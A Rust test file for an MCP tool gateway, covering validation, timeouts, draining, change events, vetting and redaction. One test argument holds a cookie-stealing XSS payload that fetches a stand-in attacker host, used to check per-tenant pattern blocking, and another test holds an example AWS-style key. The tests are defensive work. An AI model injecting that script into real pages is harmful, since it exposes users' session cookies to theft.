use std::collections::HashMap;
use std::sync::Mutex;
use std::time::Duration;

use ferromcp_protocol::ProtocolVersion;
use ferromcp_protocol::meta::RequestMeta;
use serde_json::json;

use super::*;
use crate::call::{Door, Operation};
use crate::client::{NoClient, Progress};
use crate::error::ErrorCode;
use crate::record::CallRecord;
use crate::reply::Payload;
use crate::source::{Source, SourceFuture, SourceState, Spec};

/// Notes how each call ended.
#[derive(Clone, Default)]
struct Notes(Arc<Mutex<Vec<String>>>);

impl Observer for Notes {
    fn call_ended(&self, record: &CallRecord<'_>) {
        let source = record.source.unwrap_or("-");
        let line = format!("{} {source} {}", record.name, record.ending.as_str());
        self.0.lock().unwrap().push(line);
    }
}

impl Notes {
    fn take(&self) -> Vec<String> {
        std::mem::take(&mut self.0.lock().unwrap())
    }
}

#[derive(Default)]
struct Tools {
    watched: Mutex<Vec<(String, bool)>>,
}

impl Source for Tools {
    fn call<'a>(&'a self, cx: CallContext<'a>) -> SourceFuture<'a> {
        Box::pin(async move {
            match cx.local_name {
                "echo" => {
                    #[derive(serde::Deserialize)]
                    struct Echo {
                        msg: String,
                    }
                    Ok(Reply::Complete(Payload::text(&cx.arguments.parse::<Echo>()?.msg)))
                }
                "panic" => panic!("on purpose"),
                "forever" => std::future::pending().await,
                "patient" => {
                    for step in 0..10 {
                        tokio::time::sleep(Duration::from_secs(20)).await;
                        cx.progress(&Progress {
                            progress: f64::from(step),
                            total: None,
                            message: None,
                        });
                    }
                    Ok(Reply::Complete(Payload::text("done")))
                }
                "large" => Ok(Reply::Complete(Payload::text(&"é".repeat(4000)))),
                "promise" => {
                    let structured = cx.arguments.raw;
                    Ok(Reply::Complete(Payload::tool(
                        "[]",
                        Some(structured),
                        false,
                        None,
                    )))
                }
                "sorry" => Ok(Reply::Complete(Payload::error_text("it did not work"))),
                other => Err(CallError::new(
                    ErrorCode::Internal,
                    format!("not a tool of this test: {other}"),
                )),
            }
        })
    }

    fn watch(&self, uri: &str, on: bool) {
        self.watched.lock().unwrap().push((uri.to_owned(), on));
    }
}

fn spec(name: &str) -> Spec {
    let mut definition = json!({"name": name, "inputSchema": {"type": "object"}});
    if name == "echo" {
        definition["inputSchema"] = json!({
            "type": "object", "properties": {"msg": {"type": "string"}}, "required": ["msg"],
            "additionalProperties": false
        });
    }
    if name == "promise" {
        definition["outputSchema"] = json!({"type": "object", "required": ["kept"]});
    }
    Spec::new(name, definition.to_string())
}

fn listing(source: &Arc<Tools>) -> Listing {
    let mut listing = Listing::new("test", Arc::clone(source) as Arc<dyn Source>);
    listing.offers.resources = true;
    listing.tools = ["echo", "panic", "forever", "patient", "large", "promise", "sorry"]
        .into_iter()
        .map(spec)
        .collect();
    listing
}

fn gateway(policy: Policy) -> (Arc<Gateway>, Notes, Arc<Tools>) {
    let notes = Notes::default();
    let gateway = Arc::new(Gateway::new(Identity::default(), policy, notes.clone()));
    let source = Arc::new(Tools::default());
    gateway.publish(listing(&source));
    (gateway, notes, source)
}

async fn call(gateway: &Gateway, name: &str, arguments: Option<&str>) -> Outcome {
    call_with(gateway, name, arguments, None).await
}

async fn call_with(
    gateway: &Gateway,
    name: &str,
    arguments: Option<&str>,
    timeout: Option<Duration>,
) -> Outcome {
    let call = Call {
        timeout,
        ..Call::tool(Door::Library, Credential::Local, name, arguments)
    };
    gateway.call(&call).await
}

/// `{"msg":"x"}` to a tool, for a tenant.
async fn by(gateway: &Gateway, tenant: &str, tool: &str) -> Outcome {
    let credential = Credential::Tenant(tenant);
    let call = Call::tool(Door::Library, credential, tool, Some(r#"{"msg":"x"}"#));
    gateway.call(&call).await
}

fn text(outcome: &Outcome) -> String {
    let Ok(Reply::Complete(payload)) = &outcome.result else {
        panic!("{outcome:?}")
    };
    let value: serde_json::Value = serde_json::from_str(payload.as_str()).unwrap();
    value["content"][0]["text"].as_str().unwrap().to_owned()
}

fn code(outcome: &Outcome) -> ErrorCode {
    outcome.result.as_ref().unwrap_err().code()
}

#[tokio::test]
async fn a_call_goes_through_and_ends_in_one_record() {
    let (gateway, notes, _) = gateway(Policy::default());
    let first = call(&gateway, "echo", Some(r#"{"msg":"héllo \"you\""}"#)).await;
    assert_eq!(text(&first), "héllo \"you\"");
    let second = call(&gateway, "sorry", None).await;
    assert!(matches!(&second.result, Ok(Reply::Complete(p)) if p.is_error()));
    assert_ne!(first.request_id, second.request_id);
    assert_eq!(notes.take(), ["echo test ok", "sorry test tool_error"]);
    assert_eq!(gateway.in_flight(), 0);
}

#[tokio::test]
async fn bad_arguments_are_refused_with_rule_and_place() {
    let (gateway, notes, _) = gateway(Policy::default());
    let deep = format!("{{\"msg\":{}1{}}}", "[".repeat(10_000), "]".repeat(10_000));
    let long = format!("{{\"msg\":\"{}\"}}", "x".repeat(200 << 10));
    let cases = [
        (Some("{}"), "schema.arguments", ""),
        (None, "schema.arguments", ""),
        (Some(r#"{"msg":7}"#), "schema.arguments", "/msg"),
        (Some(r#"{"msg":"x","other":1}"#), "schema.arguments", ""),
        (Some(r#"["msg"]"#), "schema.arguments", ""),
        (Some(r#"{"msg":"x","msg":"y"}"#), "json.duplicate_key", "/msg"),
        (Some(deep.as_str()), "limit.depth", ""),
        (Some(long.as_str()), "limit.string", "/msg"),
        (Some(r#"{"msg":"x""#), "json.syntax", ""),
    ];
    for (arguments, rule, pointer) in cases {
        let outcome = call(&gateway, "echo", arguments).await;
        let shown = arguments.map(|a| &a[..a.len().min(60)]);
        assert_eq!(code(&outcome), ErrorCode::InvalidArguments, "{shown:?}");
        let error = outcome.result.unwrap_err();
        assert_eq!(error.rule(), Some(rule), "{shown:?}: {error}");
        if !pointer.is_empty() {
            assert_eq!(error.issues()[0].pointer, pointer, "{shown:?}: {error}");
        }
    }
    assert!(notes.take().iter().all(|n| n == "echo test invalid_arguments"));
}

#[tokio::test]
async fn unknown_names_say_so() {
    let (gateway, notes, _) = gateway(Policy::default());
    let outcome = call(&gateway, "nothing", None).await;
    assert_eq!(code(&outcome), ErrorCode::ToolNotFound);
    assert_eq!(notes.take(), ["nothing - tool_not_found"]);
}

#[tokio::test]
async fn a_panic_is_that_calls_failure_and_tells_no_details() {
    let (gateway, notes, _) = gateway(Policy::default());
    let outcome = call(&gateway, "panic", None).await;
    let error = outcome.result.unwrap_err();
    assert_eq!(error.code(), ErrorCode::Internal);
    assert!(
        error.message().contains(&outcome.request_id.to_string()) && !error.message().contains("purpose")
    );
    assert_eq!(text(&call(&gateway, "echo", Some(r#"{"msg":"on"}"#)).await), "on");
    assert_eq!(notes.take(), ["panic test internal", "echo test ok"]);
}

#[tokio::test(start_paused = true)]
async fn deadlines_are_idle_within_absolute() {
    let (gateway, _, _) = gateway(Policy::default());
    let started = tokio::time::Instant::now();
    let idle = call(&gateway, "forever", None).await;
    assert_eq!(code(&idle), ErrorCode::Timeout);
    assert!(idle.result.unwrap_err().may_have_run());
    assert_eq!(started.elapsed().as_secs(), 30);
    // 200 s of work, but never 30 s without a sign of life.
    assert_eq!(text(&call(&gateway, "patient", None).await), "done");
    let short = call_with(&gateway, "patient", None, Some(Duration::from_secs(50))).await;
    assert_eq!(code(&short), ErrorCode::Timeout);
}

#[tokio::test(start_paused = true)]
async fn the_absolute_deadline_holds_against_progress() {
    let policy = Policy {
        max_timeout: Duration::from_secs(100),
        ..Policy::default()
    };
    let (gateway, _, _) = gateway(policy);
    let started = tokio::time::Instant::now();
    assert_eq!(code(&call(&gateway, "patient", None).await), ErrorCode::Timeout);
    assert_eq!(started.elapsed().as_secs(), 100);
}

#[tokio::test]
async fn a_caller_that_goes_away_leaves_a_record_and_no_count() {
    let (gateway, notes, _) = gateway(Policy::default());
    {
        let mut pending = std::pin::pin!(call(&gateway, "forever", None));
        assert!(futures_util::poll!(pending.as_mut()).is_pending());
        assert_eq!(gateway.in_flight(), 1);
    }
    assert_eq!(gateway.in_flight(), 0);
    assert_eq!(notes.take(), ["forever test cancelled"]);
}

#[tokio::test]
async fn large_results_are_cut_with_a_mark() {
    let (gateway, _, _) = gateway(Policy {
        max_output: 1000,
        ..Policy::default()
    });
    let outcome = call(&gateway, "large", None).await;
    let shown = text(&outcome);
    assert!(
        shown.starts_with("éé") && shown.contains("of 8000 bytes shown"),
        "{shown}"
    );
    let Ok(Reply::Complete(payload)) = outcome.result else {
        panic!()
    };
    assert!(payload.len() <= 1000);
}

#[tokio::test]
async fn output_must_fit_its_schema() {
    let (gateway, _, _) = gateway(Policy::default());
    assert!(
        call(&gateway, "promise", Some(r#"{"kept":1}"#))
            .await
            .result
            .is_ok()
    );
    let broken = call(&gateway, "promise", Some("{}")).await.result.unwrap_err();
    assert_eq!(
        (broken.code(), broken.rule()),
        (ErrorCode::UpstreamError, Some("schema.output"))
    );
    assert!(broken.may_have_run());
}

#[tokio::test]
async fn a_full_or_draining_server_refuses() {
    let (gateway, _, _) = gateway(Policy {
        max_in_flight: 1,
        ..Policy::default()
    });
    {
        let mut pending = std::pin::pin!(call(&gateway, "forever", None));
        assert!(futures_util::poll!(pending.as_mut()).is_pending());
        let full = call(&gateway, "echo", Some(r#"{"msg":""}"#))
            .await
            .result
            .unwrap_err();
        assert_eq!(
            (full.code(), full.rule()),
            (ErrorCode::Unavailable, Some("admit.max_in_flight"))
        );
        assert!(!gateway.drain(Duration::from_millis(20)).await);
    }
    assert!(gateway.drain(Duration::from_secs(1)).await);
    let late = call(&gateway, "echo", Some(r#"{"msg":""}"#))
        .await
        .result
        .unwrap_err();
    assert_eq!(late.rule(), Some("admit.draining"));
}

#[tokio::test]
async fn events_tell_only_of_real_changes() {
    let (gateway, _, source) = gateway(Policy::default());
    let mut events = gateway.events();
    gateway.publish(listing(&source));
    assert!(events.try_recv().is_err());
    let mut down = listing(&source);
    down.state = SourceState::Down {
        reason: "gone".into(),
    };
    gateway.publish(down);
    gateway.snapshot();
    assert!(events.try_recv().is_err());
    let mut fewer = listing(&source);
    fewer.tools.pop();
    gateway.publish(fewer);
    gateway.snapshot();
    assert!(matches!(events.try_recv(), Ok(Event::ToolsChanged)));
    assert!(events.try_recv().is_err());
    gateway.withdraw("test");
    assert!(matches!(events.try_recv(), Ok(Event::ToolsChanged)));
    assert_eq!(code(&call(&gateway, "echo", None).await), ErrorCode::ToolNotFound);
}

#[tokio::test]
async fn a_running_call_keeps_its_snapshot() {
    let (gateway, _, _) = gateway(Policy::default());
    let mut pending = std::pin::pin!(call(&gateway, "promise", Some(r#"{"kept":1}"#)));
    gateway.withdraw("test");
    // Not polled before the change: it sees the new snapshot. Polled before: the old one.
    assert_eq!(code(&pending.as_mut().await), ErrorCode::ToolNotFound);
}

#[tokio::test]
async fn watches_are_counted() {
    let (gateway, _, source) = gateway(Policy::default());
    let first = gateway.watch("x://r");
    let second = gateway.watch("x://r");
    drop(first);
    assert_eq!(
        source.watched.lock().unwrap().as_slice(),
        [("x://r".to_owned(), true)]
    );
    drop(second);
    assert_eq!(source.watched.lock().unwrap().len(), 2);
    assert_eq!(source.watched.lock().unwrap()[1], ("x://r".to_owned(), false));
}

fn patterns(strongest: ferromcp_guard::Action) -> ferromcp_guard::PatternPolicy {
    ferromcp_guard::PatternPolicy::compile(&ferromcp_guard::PatternConfig {
        strongest,
        ..ferromcp_guard::PatternConfig::default()
    })
    .unwrap()
}

#[tokio::test]
async fn pattern_rules_are_those_of_the_tenant_and_off_without_a_policy() {
    use ferromcp_guard::Action;
    use ferromcp_tenancy::{Directory, TenantSettings};

    let tenant = |id: &str| TenantSettings {
        id: id.into(),
        ..TenantSettings::default()
    };
    let settings = AccessSettings {
        directory: Directory::new(&[tenant("strict"), tenant("lenient")]).unwrap(),
        patterns: Some(patterns(Action::Block)),
        tenant_patterns: HashMap::from([("lenient".to_owned(), patterns(Action::Flag))]),
        ..AccessSettings::default()
    };
    let notes = Notes::default();
    let gateway = Gateway::new(Identity::default(), Policy::default(), notes.clone())
        .with_access(Access::new(settings));
    let source = Arc::new(Tools::default());
    gateway.publish(listing(&source));
    let arguments = r#"{"msg":"<script>fetch('//evil.example/'+document.cookie)</script>"}"#;
    let rule = async |tenant: &str| {
        let outcome = call_as(&gateway, Credential::Tenant(tenant), arguments).await;
        outcome.result.err().and_then(|error| error.rule())
    };
    let refused = rule("strict").await.unwrap();
    assert!(refused.starts_with("pattern.script."), "{refused}");
    assert_eq!(rule("lenient").await, None);
    assert_eq!(
        rule("local").await,
        Some(refused),
        "local users are held to the default"
    );
    let (open, _, _) = self::gateway(Policy::default());
    assert!(call_as(&open, Credential::Local, arguments).await.result.is_ok());
}

async fn call_as(gateway: &Gateway, credential: Credential<'_>, arguments: &str) -> Outcome {
    gateway
        .call(&Call {
            operation: Operation::CallTool,
            name: "echo",
            arguments: Some(arguments),
            params: None,
            meta: &RequestMeta::default(),
            version: ProtocolVersion::LATEST,
            door: Door::Library,
            credential,
            tenant: None,
            client: &NoClient,
            input: None,
            timeout: None,
        })
        .await
}

#[tokio::test]
async fn results_are_redacted_where_the_policy_says_so() {
    let policy = Policy {
        redact: ferromcp_guard::Redactor::new(&ferromcp_guard::Sensitive::SECRETS),
        ..Policy::default()
    };
    let (gateway, _, _) = gateway(policy);
    let key = format!("AKIA{}", "IOSFODNN7EXAMPLQ");
    let arguments = json!({ "msg": format!("the key is {key}.") }).to_string();
    let shown = text(&call(&gateway, "echo", Some(&arguments)).await);
    assert!(!shown.contains(&key) && shown.contains("[redacted:"), "{shown}");
}

mod aliases;
mod batches;
mod reconfigure;
mod swap;
#[test]
fn a_watch_moves_when_its_source_is_replaced_and_only_then() {
    let (gateway, _, first) = gateway(Policy::default());
    let watch = gateway.watch("x://r");
    gateway.publish(listing(&first));
    assert_eq!(
        first.watched.lock().unwrap().len(),
        1,
        "the same source: nothing to tell"
    );
    let second = Arc::new(Tools::default());
    gateway.publish(listing(&second));
    let all = |source: &Arc<Tools>| source.watched.lock().unwrap().clone();
    assert_eq!(
        all(&first),
        [("x://r".to_owned(), true), ("x://r".to_owned(), false)]
    );
    assert_eq!(all(&second), [("x://r".to_owned(), true)]);
    gateway.withdraw("test");
    assert_eq!(all(&second).last().unwrap(), &("x://r".to_owned(), false));
    let third = Arc::new(Tools::default());
    gateway.publish(listing(&third));
    drop(watch);
    assert_eq!(
        all(&third),
        [("x://r".to_owned(), true), ("x://r".to_owned(), false)]
    );
    assert_eq!((all(&first).len(), all(&second).len()), (2, 2));
}

#[test]
fn prepared_tools_are_carried_over_unless_their_definition_changed() {
    let (gateway, _, source) = gateway(Policy::default());
    let schema = |name: &str| {
        let snapshot = gateway.snapshot();
        let tool = snapshot.catalog.tool(name).unwrap();
        std::ptr::from_ref(tool.input_schema().unwrap().unwrap()) as usize
    };
    let before = schema("echo");
    let mut next = listing(&source);
    next.state = SourceState::Down {
        reason: "gone".into(),
    };
    next.tools.retain(|tool| &*tool.key != "sorry");
    let promised = json!({"name": "promise", "inputSchema": {"type": "object", "required": ["x"]}});
    for tool in &mut next.tools {
        if &*tool.key == "promise" {
            tool.definition = promised.to_string().into();
        }
    }
    gateway.publish(next);
    assert_eq!(schema("echo"), before, "the compiled schema is the very same");
    let snapshot = gateway.snapshot();
    let echo = snapshot.catalog.tool("echo").unwrap();
    assert!(
        matches!(echo.source.state, SourceState::Down { .. }),
        "of the new listing"
    );
    assert!(
        snapshot
            .catalog
            .tool("promise")
            .unwrap()
            .definition
            .contains("required")
    );
    assert!(snapshot.catalog.tool("sorry").is_none());
}

#[test]
fn only_real_changes_are_told() {
    let (gateway, _, source) = gateway(Policy::default());
    let mut events = gateway.events();
    let mut same = listing(&source);
    same.state = SourceState::Starting;
    gateway.publish(same);
    assert!(events.try_recv().is_err(), "nothing that callers can see changed");
    let mut other = listing(&source);
    other.tools.reverse();
    gateway.publish(other);
    assert!(matches!(events.try_recv(), Ok(Event::ToolsChanged)));
    assert!(events.try_recv().is_err(), "one change, told once");
}

struct NotEcho;

impl Vetting for NotEcho {
    fn vet(&self, _: &str, _: catalog::ItemKind, spec: &Spec) -> catalog::Verdict {
        if &*spec.key != "echo" {
            return catalog::Verdict::Offer;
        }
        catalog::Verdict::Withhold(catalog::Objection {
            rule: "lock.drift",
            message: "its definition changed",
            detail: "secret detail".into(),
        })
    }
}

#[tokio::test]
async fn what_is_withheld_is_not_listed_and_says_why_to_those_who_could_use_it() {
    let (gateway, notes, source) = gateway(Policy::default());
    gateway.set_vetting(Some(Arc::new(NotEcho)));
    call(&gateway, "echo", Some(r#"{"msg":"own tools are not vetted"}"#))
        .await
        .result
        .unwrap();
    let mut foreign = listing(&source);
    foreign.foreign = true;
    gateway.publish(foreign);
    notes.take();
    let outcome = call(&gateway, "echo", Some(r#"{"msg":"x"}"#)).await;
    let error = outcome.result.unwrap_err();
    assert_eq!(error.code(), ErrorCode::PermissionDenied);
    assert!(
        error.message().contains("quarantined") && !error.message().contains("secret"),
        "{}",
        error.message()
    );
    assert_eq!(error.record(), (ErrorCode::PermissionDenied, Some("lock.drift")));
    assert!(gateway.snapshot().catalog.tool("echo").is_none());
    call(&gateway, "large", None).await.result.unwrap();
    gateway.set_vetting(None);
    call(&gateway, "echo", Some(r#"{"msg":"back"}"#))
        .await
        .result
        .unwrap();
}
